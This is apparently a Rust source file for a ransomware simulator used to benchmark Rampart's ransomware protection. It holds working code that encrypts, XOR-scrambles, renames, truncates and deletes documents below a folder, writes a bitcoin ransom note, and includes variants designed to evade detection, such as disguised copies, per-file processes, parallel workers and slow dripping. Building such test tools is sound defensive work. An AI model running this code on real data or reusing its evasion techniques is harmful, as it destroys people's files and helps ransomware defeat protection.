//! `rampart-ransim`: a ransomware simulator for Rampart's tests and benchmarks. It is a test
//! tool, built with the tests and never installed: it really encrypts (AES-128-CTR), renames and
//! deletes the documents below the folder it is given, the way the families of real ransomware
//! do, so that ransomware protection can be measured against it.
//!
//! ```text
//! rampart-ransim FAMILY FOLDER [--delay-ms N] [--on-a-line]
//! ```
//!
//! `--on-a-line`: starts its work once a line comes on its standard input (a test starts it
//! before the protection, and lets it go after).
//!
//! Families:
//!
//! | family | what it does to each document |
//! |---|---|
//! | `inplace` | encrypts it in place |
//! | `new-file` | writes an encrypted copy `NAME.enc`, deletes the original |
//! | `copies-first` | writes an encrypted copy of every document under a number (`N.bin`, in its folder) first, then deletes every original |
//! | `rename` | encrypts it in place and renames it to `NAME.crypted` |
//! | `head` | encrypts its first 4 KiB only |
//! | `blocks` | encrypts every 16th 4 KiB block |
//! | `per-process` | starts one new process of itself per document (`inplace`) |
//! | `workers` | eighteen processes share the documents (`inplace`) |
//! | `mmap` | encrypts it through a shared memory map |
//! | `drip` | `inplace`, one document every two seconds (or `--delay-ms`) |
//! | `base64` | replaces it with base64 of its ciphertext |
//! | `xor` | flips every bit (XOR 0xFF) and renames it to `NAME.locked` |
//! | `wipe-truncate` | empties it |
//! | `wipe-delete` | deletes it |
//! | `notes` | drops `HOW-TO-DECRYPT.txt` in every folder |
//!
//! `rampart-ransim corpus FOLDER [--count N] [--seed S]` makes a deterministic corpus of
//! documents to attack or benchmark with (office, PDF, images, mail, code; 1 KiB to 128 KiB).
//!
//! It prints each file as it is done (`done PATH`) and exits 0 when it has done all; a
//! protected host stops it first. Which files count as documents: the usual office, PDF,
//! image, text and archive extensions.

use std::io::{Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Duration;

use aes::cipher::{KeyIvInit, StreamCipher};

mod corpus;

type Cipher = ctr::Ctr128BE<aes::Aes128>;

const EXTENSIONS: &[&str] = &[
    "doc", "docx", "xls", "xlsx", "ppt", "pptx", "odt", "ods", "pdf", "jpg", "jpeg", "png", "gif",
    "txt", "md", "csv", "json", "xml", "html", "rtf", "zip", "tar", "gz", "db", "sqlite", "eml",
    "c", "rs", "py",
];

const NOTE: &str = "YOUR FILES ARE ENCRYPTED\n\nAll your documents have been encrypted. To \
decrypt them, pay 0.1 bitcoin (BTC) to the wallet below and contact us through our .onion \
site with Tor Browser. Do not try to restore your files yourself.\n";

fn cipher() -> Cipher {
    Cipher::new(&[0x42; 16].into(), &[0x24; 16].into())
}

/// The documents below `dir`, in directory order (the order the filesystem gives).
fn documents(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let Ok(t) = e.file_type() else { continue };
            let p = e.path();
            if t.is_dir() {
                stack.push(p);
            } else if t.is_file() && is_document(&p) {
                out.push(p);
            }
        }
    }
    out
}

fn folders(dir: &Path) -> Vec<PathBuf> {
    let mut out = vec![dir.to_path_buf()];
    let mut i = 0;
    while i < out.len() {
        if let Ok(entries) = std::fs::read_dir(&out[i]) {
            for e in entries.flatten() {
                if e.file_type().is_ok_and(|t| t.is_dir()) {
                    out.push(e.path());
                }
            }
        }
        i += 1;
    }
    out
}

fn is_document(p: &Path) -> bool {
    p.extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| EXTENSIONS.contains(&e.to_ascii_lowercase().as_str()))
}

fn with_suffix(p: &Path, suffix: &str) -> PathBuf {
    let mut s = p.as_os_str().to_owned();
    s.push(suffix);
    PathBuf::from(s)
}

/// Reads a whole file through an open handle and writes `f(content)` back at the start.
fn rewrite(p: &Path, f: impl FnOnce(&mut Vec<u8>)) -> std::io::Result<()> {
    let mut file = std::fs::OpenOptions::new().read(true).write(true).open(p)?;
    let mut data = Vec::new();
    file.read_to_end(&mut data)?;
    let before = data.len();
    f(&mut data);
    file.seek(SeekFrom::Start(0))?;
    file.write_all(&data)?;
    if data.len() < before {
        file.set_len(data.len() as u64)?;
    }
    file.sync_data()
}

fn encrypt(data: &mut [u8]) {
    cipher().apply_keystream(data);
}

fn one(family: &str, p: &Path) -> std::io::Result<()> {
    match family {
        "inplace" | "drip" | "per-process" | "workers" => rewrite(p, |d| encrypt(d)),
        "new-file" => {
            let mut data = std::fs::read(p)?;
            encrypt(&mut data);
            std::fs::write(with_suffix(p, ".enc"), &data)?;
            std::fs::remove_file(p)
        }
        "rename" => {
            rewrite(p, |d| encrypt(d))?;
            std::fs::rename(p, with_suffix(p, ".crypted"))
        }
        "head" => rewrite(p, |d| {
            let n = d.len().min(4096);
            encrypt(&mut d[..n])
        }),
        "blocks" => rewrite(p, |d| {
            for block in d.chunks_mut(4096).step_by(16) {
                encrypt(block)
            }
        }),
        "mmap" => encrypt_mapped(p),
        "base64" => rewrite(p, |d| {
            use base64::Engine;
            encrypt(d);
            *d = base64::engine::general_purpose::STANDARD
                .encode(&d[..])
                .into_bytes();
        }),
        "xor" => {
            rewrite(p, |d| d.iter_mut().for_each(|b| *b ^= 0xFF))?;
            std::fs::rename(p, with_suffix(p, ".locked"))
        }
        "wipe-truncate" => std::fs::OpenOptions::new()
            .write(true)
            .truncate(true)
            .open(p)
            .map(drop),
        "wipe-delete" => std::fs::remove_file(p),
        other => Err(std::io::Error::other(format!("unknown family {other}"))),
    }
}

/// Encrypts a file through a shared writable map of it.
#[allow(unsafe_code)]
fn encrypt_mapped(p: &Path) -> std::io::Result<()> {
    let file = std::fs::OpenOptions::new().read(true).write(true).open(p)?;
    if file.metadata()?.len() == 0 {
        return Ok(());
    }
    // SAFETY: the simulator is the only writer of the file while it maps it; the map is dropped
    // (unmapped) before the file is closed.
    let mut map = unsafe { memmap2::MmapMut::map_mut(&file)? };
    encrypt(&mut map);
    map.flush()?;
    drop(map);
    file.sync_data()
}

fn announce(p: &Path) {
    println!("done {}", p.display());
    let _ = std::io::stdout().flush();
}

fn run(family: &str, dir: &Path, delay: Duration) -> std::io::Result<()> {
    let me = std::env::current_exe()?;
    match family {
        "notes" => {
            for f in folders(dir) {
                let note = f.join("HOW-TO-DECRYPT.txt");
                std::fs::write(&note, NOTE)?;
                announce(&note);
                std::thread::sleep(delay);
            }
            Ok(())
        }
        "copies-first" => {
            // every copy made before any document is touched, under names nothing pairs with
            // the documents: the copies look like any program's new files until the deletions
            let docs = documents(dir);
            for (i, p) in docs.iter().enumerate() {
                let mut data = std::fs::read(p)?;
                encrypt(&mut data);
                std::fs::write(p.with_file_name(format!("{i:05}.bin")), &data)?;
            }
            for p in &docs {
                std::fs::remove_file(p)?;
                announce(p);
                std::thread::sleep(delay);
            }
            Ok(())
        }
        "per-process" => {
            for p in documents(dir) {
                let status = std::process::Command::new(&me)
                    .args(["--one", "per-process"])
                    .arg(&p)
                    .status()?;
                if !status.success() {
                    return Err(std::io::Error::other(format!(
                        "the worker for {} failed",
                        p.display()
                    )));
                }
                announce(&p);
                std::thread::sleep(delay);
            }
            Ok(())
        }
        "workers" => {
            let docs = documents(dir);
            let mut children = Vec::new();
            for w in 0..18 {
                let mine: Vec<&PathBuf> = docs.iter().skip(w).step_by(18).collect();
                let mut cmd = std::process::Command::new(&me);
                cmd.args(["--many", "workers"]).args(mine);
                children.push(cmd.spawn()?);
            }
            let mut failed = 0;
            for mut c in children {
                if !c.wait()?.success() {
                    failed += 1;
                }
            }
            if failed > 0 {
                return Err(std::io::Error::other(format!(
                    "{failed} of 18 workers failed"
                )));
            }
            Ok(())
        }
        _ => {
            for p in documents(dir) {
                one(family, &p)?;
                announce(&p);
                std::thread::sleep(delay);
            }
            Ok(())
        }
    }
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let result = match args.first().map(String::as_str) {
        // a worker of per-process or workers
        Some("--one") if args.len() == 3 => one(&args[1], Path::new(&args[2])),
        Some("corpus") if args.len() >= 2 => {
            let flag = |name: &str, default: u64| {
                args.iter()
                    .position(|a| a == name)
                    .and_then(|i| args.get(i + 1))
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(default)
            };
            let dir = Path::new(&args[1]);
            let count = flag("--count", 240) as usize;
            corpus::make(dir, count, flag("--seed", 1))
                .map(|()| println!("made {count} documents below {}", dir.display()))
        }
        Some("--many") if args.len() >= 2 => args[2..]
            .iter()
            .try_for_each(|p| one(&args[1], Path::new(p)).map(|()| announce(Path::new(p)))),
        Some(family) if args.len() >= 2 => {
            let default = if family == "drip" { 2000 } else { 0 };
            let delay = args
                .iter()
                .position(|a| a == "--delay-ms")
                .and_then(|i| args.get(i + 1))
                .and_then(|v| v.parse().ok())
                .unwrap_or(default);
            if args.iter().any(|a| a == "--on-a-line") {
                let mut line = String::new();
                if let Err(e) = std::io::stdin().read_line(&mut line) {
                    eprintln!("rampart-ransim: reading the line to start on: {e}");
                    return ExitCode::FAILURE;
                }
            }
            run(family, Path::new(&args[1]), Duration::from_millis(delay))
        }
        _ => {
            eprintln!("usage: rampart-ransim FAMILY FOLDER [--delay-ms N] [--on-a-line] | corpus FOLDER [--count N] [--seed S]  (see the source for the families)");
            return ExitCode::from(2);
        }
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("rampart-ransim: {e}");
            ExitCode::FAILURE
        }
    }
}
